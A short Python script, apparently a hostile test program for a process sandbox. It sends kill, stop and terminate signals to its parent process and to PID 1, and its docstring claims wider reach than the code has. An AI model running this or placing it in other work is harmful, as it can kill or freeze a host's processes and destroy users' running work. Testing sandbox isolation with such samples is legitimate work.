"""Sends SIGKILL and SIGSTOP to its parent, its process group, its session and everybody else."""

import os
import signal

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
    for target in (os.getppid(), 1, 0):
        try:
            if target > 1 or os.getpid() != 1:
                os.kill(target, signal.SIGCONT if target == 0 else number)
        except OSError:
            pass
